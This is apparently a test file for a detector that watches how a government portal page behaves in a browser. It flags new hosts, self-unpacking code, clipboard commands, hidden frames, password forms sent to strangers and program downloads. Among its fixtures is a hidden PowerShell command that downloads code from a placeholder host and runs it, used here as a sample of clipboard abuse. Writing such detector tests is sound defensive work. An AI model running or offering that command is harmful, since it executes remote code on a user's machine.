/** What a page does in a browser: told when it is new, quiet when it was learned, silent where nothing was learned. */
import { describe, expect, test } from 'vitest';
import type { Behaviour } from '../../../../src/core/domain/behaviour.ts';
import { type Look, lookAt } from '../../../../src/core/facts/look.ts';
import { assess } from '../../../../src/core/judge/assess.ts';
import { acceptLook, type Baseline, refineBaseline, replaceBaseline } from '../../../../src/core/learned/baseline.ts';
import { captureFrom } from '../../../support/captures.ts';
import { learned } from '../../../support/detecting.ts';
import { testPolicy } from '../../../support/policy.ts';
import { portalPage } from '../../../support/portal-pages.ts';

const url = 'https://anphu.binhgiang.gov.vn/';
interface Shown {
  readonly received?: string;
  readonly added?: string;
  readonly renderer?: string;
}
const look = (behaviour: Partial<Behaviour>, { received = '', added = '', renderer = 'test' }: Shown = {}): Look =>
  lookAt(
    captureFrom(portalPage({ extra: received }), {
      url,
      rendered: { html: portalPage({ extra: received + added }), rendererVersion: renderer },
      behaviour,
    }),
    null,
  );
const calm = look({});
const plain = learned([calm, calm, calm]);
const judged = (seen: Look, baseline: Baseline | null = plain) =>
  assess({ targetUrl: url, at: 9, baseline, ignored: [] }, { looks: [seen], failures: [] }, testPolicy).verdict;
const behaving = /^(?:clipboard|code-made|download|form-re|history|hosts-con|planted|record-|rights|talks|windows)/;
const said = (seen: Look, baseline: Baseline | null = plain): string[] =>
  judged(seen, baseline)
    .findings.filter(({ detector }) => behaving.test(detector))
    .flatMap(({ cues = [] }) => cues);
const made = (source: string, by: string | null = null) => ({
  source,
  length: source.length,
  times: 1,
  by,
  frame: null,
});

const doings: Record<string, { does: Partial<Behaviour>; cues: string[]; level: string }> = {
  'a picture of a new host': {
    does: { hosts: [{ host: 'anh.khac.example', kinds: ['image'] }] },
    cues: ['hosts-contacted.other'],
    level: 'clean',
  },
  'a script of a new host': {
    does: { hosts: [{ host: 'js.khac.example', kinds: ['script'] }] },
    cues: ['hosts-contacted.script'],
    level: 'suspect',
  },
  'data sent to a new host': {
    does: { hosts: [{ host: 'thu.khac.example', kinds: ['beacon', 'post'] }] },
    cues: ['hosts-contacted.sent'],
    level: 'clean',
  },
  'code made for the first time': {
    does: { code: [made('window.x = document.title.length + 1')] },
    cues: ['code-made.first'],
    level: 'clean',
  },
  'such code and a new host asked': {
    does: {
      code: [made('window.x = document.title.length + 1')],
      hosts: [{ host: 'rpc.khac.example', kinds: ['fetch', 'post'] }],
    },
    cues: ['talks-away.made-code', 'code-made.first', 'hosts-contacted.sent'],
    level: 'alarm',
  },
  'code that unpacks itself': {
    does: { code: [made('eval(function(p,a,c,k,e,d){return p}("0 1",2,2,"a|b".split("|")))')] },
    cues: ['code-made.first', 'code-made.hidden', 'code-made.again'],
    level: 'alarm',
  },
  'a command on the clipboard': {
    does: { clipboard: ['powershell -w hidden -c "iwr http://x.example/a | iex"'] },
    cues: ['clipboard-written.command'],
    level: 'alarm',
  },
  'a text on the clipboard': {
    does: { clipboard: ['Sở Nội vụ tỉnh Bình Giang'] },
    cues: ['clipboard-written.first'],
    level: 'suspect',
  },
  'a window of a stranger': {
    does: { windows: ['https://quang-cao.example/pop'] },
    cues: ['windows-opened.foreign'],
    level: 'suspect',
  },
  'an announcement in a window': { does: { windows: ['/thong-bao/12'] }, cues: ['windows-opened.own'], level: 'clean' },
  'notifications asked for': {
    does: { asked: ['notifications'] },
    cues: ['rights-asked.notifications'],
    level: 'suspect',
  },
  'notifications asked for by a new host': {
    does: { asked: ['notifications'], hosts: [{ host: 'day.khac.example', kinds: ['script'] }] },
    cues: ['hosts-contacted.script', 'rights-asked.notifications'],
    level: 'alarm',
  },
  'a filled history that holds back': {
    does: { history: { changes: 30, entries: 30, holdsBack: true } },
    cues: ['history-filled.many', 'history-filled.held'],
    level: 'suspect',
  },
  'a program downloaded': {
    does: { downloads: ['https://tai.khac.example/VNeID.apk'] },
    cues: ['download-started.program'],
    level: 'alarm',
  },
  'more than can be recorded': { does: { over: ['code'] }, cues: ['record-overflowed'], level: 'clean' },
};

describe.each(Object.entries(doings))('%s', (_name, { does, cues, level }) => {
  const seen = look(does);
  test('is told', () => {
    expect(said(seen).sort()).toEqual(cues.toSorted());
    expect(judged(seen).level).toBe(level);
  });
  test('is quiet when it was learned, or accepted', () => {
    expect(said(seen, learned([seen, seen]))).toEqual([]);
    expect(said(seen, acceptLook(plain, seen, 2))).toEqual([]);
    const replaced = { ...plain, content: replaceBaseline(plain.content, seen, 2) };
    expect([said(seen, replaced), said(calm, replaced)]).toEqual([[], []]);
  });
  test('is silent where no behaviour was learned, or another browser recorded it', () => {
    const http = learned([lookAt(captureFrom(portalPage(), { url }), null)]);
    const silent = cues.includes('clipboard-written.command') ? ['clipboard-written.command'] : [];
    expect(said(seen, http)).toEqual(silent);
    expect(said(look(does, { renderer: 'newer' }))).toEqual(silent);
  });
});

describe('a click', () => {
  const at = (on: 'ground' | 'layer') => ({
    on,
    leads: ['https://nhacai.example/'],
    clipboard: [],
    asked: [],
    hosts: [],
  });
  const clicked = look({ click: { ...at('ground'), leads: [] } });
  test('on neutral ground that leads to a stranger is told where clicks were learned', () => {
    expect(said(look({ click: at('ground') }))).toEqual([]);
    expect(said(look({ click: at('ground') }), learned([clicked, clicked]))).toEqual(['windows-opened.by-click']);
  });
  test('on a new layer is always told', () => {
    expect(said(look({ click: at('layer') }))).toEqual(['windows-opened.by-layer']);
  });
});

describe('elements', () => {
  const form = (to: string) => `<form action="${to}"><input type="password"></form>`;
  const turned = (to: string) =>
    lookAt(
      captureFrom(portalPage({ extra: form('/vao') }), {
        url,
        rendered: { html: portalPage({ extra: form(to) }), rendererVersion: 'test' },
        behaviour: {},
      }),
      null,
    );
  test('a form that a script turns to a stranger', () => {
    const baseline = learned([turned('/vao'), turned('/vao')]);
    expect(said(turned('https://thu.khac.example/'), baseline)).toEqual(['form-retargeted.password']);
    expect(said(turned('/vao'), baseline)).toEqual([]);
  });
  const hidden = '<iframe src="https://khung.khac.example/" style="display:none"></iframe>';
  test('a hidden frame by the page’s own script, and by a new widget', () => {
    const hosts = [{ host: 'khung.khac.example', kinds: ['frame'] as const }];
    expect(said(look({ hosts }, { added: hidden }))).toContain('planted-elements.hidden');
    const widget = [{ host: 'khung.khac.example', kinds: ['frame', 'script'] as const }];
    expect(said(look({ hosts: widget }, { added: hidden }))).toContain('planted-elements.with-script');
  });
});

describe('learning by itself', () => {
  test('takes code and no host', () => {
    const seen = look({
      code: [made('window.so = 1; doSomething(window.so)')],
      hosts: [{ host: 'anh.khac.example', kinds: ['image'] }],
    });
    const refined = refineBaseline(plain, seen, 2);
    expect(said(seen, refined)).toEqual(['hosts-contacted.other']);
  });
  test('a page that makes other code at every look is not told for it', () => {
    const ever = Array.from({ length: 6 }, (_, i) => look({ code: [made(`tinh_${'abcdefgh'[i]}(document.title)`)] }));
    expect(said(look({ code: [made('tinh_moi(document.title)')] }), learned(ever))).toEqual([]);
  });
  test('begins anew with another browser only beside an HTTP look that agrees, and keeps its hosts', () => {
    const other = look({ hosts: [{ host: 'anh.khac.example', kinds: ['image'] }] }, { renderer: 'newer' });
    const http = lookAt(captureFrom(portalPage(), { url }), null);
    const both = learned([calm, calm, http, http]);
    expect(refineBaseline(both, other, 2)?.content.behaviour?.recordedBy ?? 'test').toBe('test');
    const refined = refineBaseline(both, other, 2, [http, other]);
    expect(refined?.content.behaviour?.recordedBy).toBe('newer');
    expect(said(other, refined)).toEqual(['hosts-contacted.other']);
  });
});
